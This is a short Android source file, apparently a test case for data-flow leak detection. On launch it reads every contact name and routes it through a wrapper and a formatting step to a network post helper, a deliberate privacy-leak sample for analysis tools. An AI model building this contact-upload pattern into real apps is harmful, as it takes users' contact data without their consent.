package com.example.flows.many_hops;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.net.wifi.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** Names pass through methods, a wrapper and a field. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        Wrapper wrapper = new Wrapper(clean(contacts()));
        send(wrapper);
    }

    static class Wrapper {
        private final String text;

        Wrapper(String text) {
            this.text = text;
        }

        String text() {
            return text;
        }
    }

    static String clean(String text) {
        return text.trim().replace(";", ",");
    }

    void send(Wrapper wrapper) {
        forward(String.format("names=%s", wrapper.text()));
    }

    void forward(String line) {
        Net.post(line);
    }

    String contacts() {
        StringBuilder names = new StringBuilder();
        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (cursor.moveToNext()) {
            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append(';');
        }
        cursor.close();
        return names.toString();
    }
}
